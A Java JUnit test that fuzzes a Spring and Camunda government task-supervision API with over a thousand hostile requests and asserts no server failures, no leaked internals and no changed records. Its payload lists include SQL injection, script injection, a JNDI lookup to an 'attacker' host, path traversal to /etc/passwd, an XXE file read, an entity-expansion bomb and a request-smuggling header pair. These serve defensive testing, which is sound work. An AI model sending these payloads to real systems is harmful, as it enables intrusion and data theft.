package gov.supervision.app.security;

import gov.supervision.app.Doors;
import gov.supervision.app.EngineTestSupport;
import gov.supervision.bpmn.DispatchProcess;
import org.camunda.bpm.engine.TaskService;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Pattern;

import static gov.supervision.app.Api.PLAN;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * A storm of hostile requests over every endpoint and parameter of our API, and over Camunda's doors: wrong types,
 * huge and empty values, control characters, NUL, halves of surrogate pairs, SQL and script fragments, overflowing
 * numbers and dates, wrong content types and bodies, every role. Not one is answered with a failure (5xx); every
 * refusal is a problem that names what was wrong and shows no class name or SQL; and afterwards the record is as it
 * was: the same events, the same projection checksums, the same verification.
 * <p>
 * Requests that write aim where they cannot succeed whatever the hostile part (a plan that does not exist, a work
 * item nobody has, a due time already past), so that "nothing changed" is the check and not luck.
 */
class HostileInputStormTest extends EngineTestSupport {

    /** Strings no field should take as they are, or that a careless one would. */
    private static final List<String> TEXTS = List.of("", " ", "\u0000", "计\u0000划", "\ud800", "x\udfff",
            "\u0007\u001b[2J", "\u202e\u200b", "' OR '1'='1", "1; DROP TABLE domain_event_entry; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker/a}", "#{7*7}", "../../etc/passwd", "%00", "%2e%2e%2f",
            "字".repeat(100_000), "null", "true", "-1", "0", "2147483648", "-2147483649", "99999999999999999999",
            "1e309", "NaN", "Infinity", "+999999999-12-31T00:00:00Z", "-999999999-01-01", "2021-02-30",
            "2021-W99", "0000-00-00", "9999-12-31T23:59:59Z", "😀", "聊政发〔2099〕0号", "report/1/gxj", "ack/",
            "E1\nE2", "a,b,c,,,,,");
    /** JSON values of every shape, for body fields. */
    private static final List<String> JSON_VALUES = List.of("null", "true", "false", "0", "-0", "1.5", "-1",
            "4294967346", "2147483648", "1e309", "123456789012345678901234567890", "[]", "{}", "[{\"a\":1}]",
            "[\"a\",null]", "{\"value\":\"x\",\"type\":\"String\"}", "\"\\u0000\"", "\"\\ud800\"", "\"\\udfff\"",
            "\"\"", "\"   \"", "\"<script>\"", "\"' OR 1=1 --\"", "\"" + "字".repeat(20_000) + "\"",
            "\"+999999999-12-31T00:00:00Z\"", "\"2021-13-45T99:99:99Z\"", "\"2199-01-01T17:00\"");
    /** Whole bodies that are no JSON object, or too much of one. */
    private static final List<String> BODIES = List.of("", "{", "}", "[]", "null", "\"x\"", "1", "{\"a\":1}{",
            "{\"a\":1,\"a\":2}", "[".repeat(5_000) + "]".repeat(5_000), "{\"a\":" + "[".repeat(3_000),
            "\u0000", "<?xml version=\"1.0\"?><a/>", "a=1&b=2");
    private static final List<String> CONTENT_TYPES = List.of("text/plain", "text/xml", "application/xml",
            "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/octet-stream",
            "application/json; charset=ISO-8859-1", "image/png", "application/json;;;", "*/*");
    private static final List<String> USERS = java.util.Arrays.asList("supervisor", "auditor", "chenxiuxing", "gxj",
            "nyncj", null, "admin");
    /** What an answer must never show: a Java class, a stack frame, the database's own words. */
    private static final Pattern LEAK = Pattern.compile(
            "Exception|\\bat (org|java|gov)\\.|\\b(org|java|javax|jakarta|gov)\\.[a-z]+\\.|PSQL|SQLState|ERROR: |"
                    + "syntax error at|<html|Apache Tomcat");

    @LocalServerPort
    int port;
    @Autowired
    TaskService tasks;

    private record Knock(String user, String method, String path, String contentType, byte[] body,
                         Map<String, String> headers) {

        @Override
        public String toString() {
            String shown = body == null ? "" : new String(body, StandardCharsets.UTF_8);
            return "%s %s as %s [%s] %s".formatted(method, path.length() > 200 ? path.substring(0, 200) + "…" : path,
                    user, contentType, shown.length() > 120 ? shown.substring(0, 120) + "…" : shown);
        }
    }

    @Test
    void hostileRequestsMeetProblemsNeverAFailureAndChangeNothing() throws Exception {
        Doors doors = new Doors(port);
        api.post("supervisor", "/api/inspections", "{\"planNumber\":\"" + PLAN + "\",\"taskNumber\":14}");
        String task = api.ledgerRow(14).get("taskId").asText();
        String item = tasks.createTaskQuery().processInstanceBusinessKey(task)
                .taskDefinitionKey(DispatchProcess.Elements.ACKNOWLEDGE).singleResult().getId();
        RecordSnapshot before = RecordSnapshot.take(doors, jdbc);

        List<Knock> knocks = storm(task, item);
        assertThat(knocks).hasSizeGreaterThanOrEqualTo(1_000);
        List<String> wrong = java.util.Collections.synchronizedList(new ArrayList<>());
        Map<Integer, Integer> statuses = new java.util.concurrent.ConcurrentSkipListMap<>();
        long started = System.nanoTime();
        // four clients at once, as a hostile script would: refusals must hold under concurrency too
        java.util.concurrent.ExecutorService clients = java.util.concurrent.Executors.newFixedThreadPool(4);
        try {
            List<java.util.concurrent.Future<?>> sent = new ArrayList<>();
            for (Knock knock : knocks) {
                sent.add(clients.submit(() -> {
                    Doors.Answer answer = doors.call(knock.user(), knock.user(), knock.method(), knock.path(),
                            knock.contentType(), knock.body(), knock.headers());
                    statuses.merge(answer.status(), 1, Integer::sum);
                    if (answer.status() >= 500) {
                        wrong.add("failed: " + knock + " → " + answer);
                    } else if (answer.status() >= 400 && !answer.isProblem()) {
                        wrong.add("no problem: " + knock + " → " + answer);
                    } else if (answer.status() >= 400 && LEAK.matcher(answer.body()).find()) {
                        wrong.add("leaks: " + knock + " → " + answer);
                    }
                }));
            }
            for (java.util.concurrent.Future<?> each : sent) {
                each.get();
            }
        } finally {
            clients.shutdownNow();
        }
        for (byte[] raw : rawRequests()) {
            Doors.Answer answer = doors.raw("127.0.0.1", raw);
            statuses.merge(answer.status(), 1, Integer::sum);
            if (answer.status() >= 500 || answer.status() >= 400 && !answer.isProblem()) {
                wrong.add("raw: " + new String(raw, StandardCharsets.ISO_8859_1).lines().findFirst().orElse("")
                        + " → " + answer);
            }
        }
        System.out.printf("hostile-input storm: %d requests in %d ms, statuses %s%n", knocks.size()
                + rawRequests().size(), (System.nanoTime() - started) / 1_000_000, statuses);

        assertThat(wrong).as("of %d requests (statuses %s)", knocks.size(), statuses).isEmpty();
        assertThat(RecordSnapshot.take(doors, jdbc)).isEqualTo(before);
        assertThat(before.intact()).isTrue();
    }

    /** Every endpoint, every parameter and field, every hostile value; roles in turn. */
    private List<Knock> storm(String task, String item) throws Exception {
        List<Knock> knocks = new ArrayList<>();
        Random random = new Random(9);
        String nowhere = "聊政发〔2099〕0号";
        Map<String, List<String>> reads = new LinkedHashMap<>();
        reads.put("/api/ledger", List.of("plan", "taskNumber", "section", "unit", "leadUnit", "leader", "status",
                "light", "overdue", "sort", "page", "size", "format"));
        reads.put("/api/leader-view", List.of("leader", "plan"));
        reads.put("/api/scorecards", List.of("plan", "period", "from", "to"));
        reads.put("/api/bulletins/weekly", List.of("plan", "week", "format"));
        reads.put("/api/work-items", List.of("plan", "taskNumber", "step"));
        reads.put("/api/tasks/" + task + "/history", List.of("type", "from", "to", "format"));
        reads.put("/api/tasks/" + task + "/as-of", List.of("at"));
        reads.put("/api/audit/verification", List.of("task"));
        reads.put("/api/reconciliation", List.of("x"));
        reads.put("/api/projections", List.of("name"));
        reads.put("/api/dead-letters", List.of("projection"));
        int turn = 0;
        for (Map.Entry<String, List<String>> read : reads.entrySet()) {
            for (String parameter : read.getValue()) {
                for (String value : TEXTS) {
                    knocks.add(new Knock(USERS.get(turn++ % USERS.size()), "GET", read.getKey()
                            + query(parameter, value), null, null, Map.of()));
                }
            }
        }
        // ids in paths
        for (String value : TEXTS.subList(0, 24)) {
            String id = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            for (String path : List.of("/api/tasks/%s/history", "/api/tasks/%s/as-of?at=2021-03-01",
                    "/api/projections/%s", "/api/work-items/%s", "/api/dead-letters/ledger/%s")) {
                String method = path.startsWith("/api/work-items") ? "POST" : "GET";
                knocks.add(new Knock(USERS.get(turn++ % USERS.size()), method, path.formatted(id),
                        method.equals("POST") ? "application/json" : null,
                        method.equals("POST") ? bytes("{\"responsiblePerson\":\"李四\"}") : null, Map.of()));
            }
        }
        // fields of write bodies, each with every hostile JSON value, where no value can make the request succeed
        Map<String, Map<String, String>> writes = new LinkedHashMap<>();
        writes.put("/api/inspections", Map.of("planNumber", "\"" + nowhere + "\"", "taskNumber", "1"));
        writes.put("/api/tasks/" + task + "/extension-requests", Map.of("dueId", "\"ack/gxj\"",
                "requestedDueAt", "\"2000-01-01T00:00:00Z\"", "reason", "\"外出\""));
        writes.put("/api/tasks/" + task + "/contributions", Map.of("text", "\"配合\"", "evidence", "[]"));
        writes.put("/api/tasks/" + task + "/follow-up/stop", Map.of("reason", "\"并入\""));
        writes.put("/api/tasks/" + task + "/reopen", Map.of("reason", "\"复发\""));
        writes.put("/api/work-items/no-such-item", Map.of("responsiblePerson", "\"李四\""));
        for (Map.Entry<String, Map<String, String>> write : writes.entrySet()) {
            for (String field : write.getValue().keySet()) {
                for (String value : JSON_VALUES) {
                    Map<String, String> body = new LinkedHashMap<>(write.getValue());
                    body.put(field, value);
                    knocks.add(json(USERS.get(turn++ % USERS.size()), write.getKey(), body));
                }
            }
            for (String body : BODIES) {
                knocks.add(new Knock(USERS.get(turn++ % USERS.size()), "POST", write.getKey(), "application/json",
                        bytes(body), Map.of()));
            }
            for (String type : CONTENT_TYPES) {
                knocks.add(new Knock(USERS.get(turn++ % USERS.size()), "POST", write.getKey(), type,
                        bytes(object(write.getValue())), Map.of()));
            }
            for (String method : List.of("PUT", "DELETE", "PATCH", "GET")) {
                knocks.add(new Knock(USERS.get(turn++ % USERS.size()), method, write.getKey(), "application/json",
                        method.equals("GET") ? null : bytes(object(write.getValue())), Map.of()));
            }
            knocks.add(new Knock("supervisor", "POST", write.getKey(), "application/json",
                    bytes("{\"text\":\"" + "字".repeat(800_000) + "\"}"), Map.of()));
        }
        // the real work item, with values its form must refuse (a valid one would acknowledge)
        for (String value : List.of("null", "1", "4294967346", "[]", "{}", "[{\"a\":1}]", "\"\\u0000\"",
                "\"\\ud800\"", "\"\"", "\"" + "李".repeat(101) + "\"", "\"   \"")) {
            knocks.add(json("gxj", "/api/work-items/" + item, Map.of("responsiblePerson", value)));
            knocks.add(json("gxj", "/api/work-items/" + item, Map.of("responsiblePerson", "\"李四\"", "taskId",
                    value)));
        }
        // texts for the importer: no plan of that number is in them, or they hold a NUL
        String bulletin = Files.readString(Path.of("src/main/resources/bulletins/liaocheng-2021-02.txt"));
        List<String> texts = new ArrayList<>(List.of("", "\u0000", "x".repeat(10), bulletin,
                bulletin.replace("号", "\u0000号"), bulletin.substring(0, bulletin.length() / 2),
                "聊政发〔2099〕0号\n" + "1. ".repeat(20_000), new String(new char[]{'\ud800', 'a'})));
        for (String text : texts) {
            for (String path : List.of("/api/plan-imports/preview?plan=", "/api/plan-imports?plan=")) {
                knocks.add(new Knock(USERS.get(turn++ % USERS.size()), "POST", path
                        + URLEncoder.encode(nowhere, StandardCharsets.UTF_8), "text/plain; charset=UTF-8",
                        bytes(text), Map.of()));
                knocks.add(new Knock("supervisor", "POST", path + URLEncoder.encode(nowhere, StandardCharsets.UTF_8),
                        "text/plain; charset=UTF-8", bytes(text), Map.of()));
            }
        }
        knocks.add(new Knock("supervisor", "POST", "/api/plan-imports/preview", "text/plain",
                new byte[]{(byte) 0xC3, (byte) 0x28, (byte) 0xFF}, Map.of()));
        // policies that are none, or try the XML parser
        for (String dmn : List.of("", "<x/>", "not xml", "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY e SYSTEM "
                        + "\"file:///etc/passwd\">]><definitions>&e;</definitions>",
                "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;"
                        + "&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;"
                        + "&c;&c;&c;\">]><definitions>&d;&d;&d;</definitions>",
                "<definitions xmlns=\"https://www.omg.org/spec/DMN/20191111/MODEL/\" id=\"d\" name=\"d\" "
                        + "namespace=\"x\"/>")) {
            for (String user : List.of("supervisor", "gxj", "admin")) {
                knocks.add(new Knock(user, "POST", "/api/escalation-policy", "application/xml", bytes(dmn), Map.of()));
            }
        }
        // projections and rebuilds of what does not exist
        for (String value : TEXTS.subList(0, 16)) {
            knocks.add(new Knock("supervisor", "POST", "/api/projections/"
                    + URLEncoder.encode(value + "x", StandardCharsets.UTF_8).replace("+", "%20") + "/rebuild",
                    null, null, Map.of()));
        }
        // dead letters that do not exist: retried, evicted
        for (String value : TEXTS.subList(0, 16)) {
            String id = URLEncoder.encode(value + "x", StandardCharsets.UTF_8).replace("+", "%20");
            knocks.add(new Knock("supervisor", "POST", "/api/dead-letters/ledger/" + id + "/retry", null, null,
                    Map.of()));
            knocks.add(new Knock("supervisor", "DELETE", "/api/dead-letters/scorecard/" + id + "/" + id, null, null,
                    Map.of()));
        }
        // headers: what no browser sends
        for (String accept : List.of("image/png", "text/html", "application/xml", "*/*;q=x", "", "a".repeat(7_000))) {
            knocks.add(new Knock("supervisor", "GET", "/api/ledger", null, null, Map.of("Accept", accept)));
        }
        for (String credentials : List.of("fl:wrong", "", ":", "\u0000", "admin")) {
            knocks.add(new Knock(null, "GET", "/api/ledger", null, null, Map.of("Authorization", "Basic "
                    + java.util.Base64.getEncoder().encodeToString(credentials.getBytes(StandardCharsets.UTF_8)))));
        }
        knocks.add(new Knock(null, "GET", "/api/ledger", null, null, Map.of("Authorization", "Basic !!!")));
        knocks.add(new Knock(null, "GET", "/api/ledger", null, null, Map.of("Authorization", "Bearer x")));
        // Camunda's doors with hostile ids and bodies
        for (String value : TEXTS.subList(0, 20)) {
            String id = URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
            knocks.add(new Knock("admin", "GET", "/engine-rest/task/" + id, null, null, Map.of()));
            knocks.add(new Knock("admin", "POST", "/engine-rest/task/" + id + "/complete", "application/json",
                    bytes("{\"variables\":{\"x\":{\"value\":1}}}"), Map.of()));
            knocks.add(new Knock("gxj", "GET", "/engine-rest/process-instance?businessKey=" + id, null, null,
                    Map.of()));
            knocks.add(new Knock("admin", "GET", "/engine-rest/history/process-instance?processInstanceBusinessKey="
                    + id, null, null, Map.of()));
        }
        for (String body : BODIES) {
            knocks.add(new Knock("admin", "POST", "/engine-rest/task/" + item + "/complete", "application/json",
                    bytes(body), Map.of()));
            knocks.add(new Knock("admin", "POST", "/engine-rest/message", "application/json", bytes(body), Map.of()));
        }
        java.util.Collections.shuffle(knocks, random);
        return knocks;
    }

    /** Bytes no well-behaved client sends: a path or request line Tomcat or the firewall must refuse. */
    private static List<byte[]> rawRequests() {
        List<byte[]> raw = new ArrayList<>();
        for (String line : List.of("GET /api/tasks/%zz/history HTTP/1.1", "GET /api/led%2Fger HTTP/1.1",
                "GET /api/ledger/..;/x HTTP/1.1", "GET /api//ledger HTTP/1.1", "GET /api/ledger;jsessionid=1 HTTP/1.1",
                "GET /api/%00 HTTP/1.1", "GET /api/\u00e8 HTTP/1.1", "FOO /api/ledger HTTP/1.1",
                "TRACE /api/ledger HTTP/1.1", "GET /api/ledger?plan=%ZZ HTTP/1.1", "GET /api/ledger HTTP/9.9",
                "GET api/ledger HTTP/1.1", "GET /api/ledger?" + "a=1&".repeat(2_000) + " HTTP/1.1")) {
            raw.add(Doors.request(line, "auditor"));
        }
        raw.add("GARBAGE\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
        raw.add(Doors.request("GET /api/ledger HTTP/1.1", "auditor", "X-Long: " + "x".repeat(20_000)));
        byte[] smuggled = Doors.request("POST /api/inspections HTTP/1.1", "supervisor",
                "Content-Type: application/json", "Transfer-Encoding: chunked", "Content-Length: 5");
        raw.add(java.util.Arrays.copyOf(smuggled, smuggled.length + 5));
        System.arraycopy("0\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1), 0, raw.get(raw.size() - 1),
                smuggled.length, 5);
        return raw;
    }

    private static Knock json(String user, String path, Map<String, String> fields) {
        return new Knock(user, "POST", path, "application/json", bytes(object(fields)), Map.of());
    }

    private static String object(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((name, value) -> json.append(json.length() > 1 ? "," : "").append('"').append(name)
                .append("\":").append(value));
        return json.append('}').toString();
    }

    private static String query(String name, String value) {
        return "?" + URLEncoder.encode(name, StandardCharsets.UTF_8) + "="
                + URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
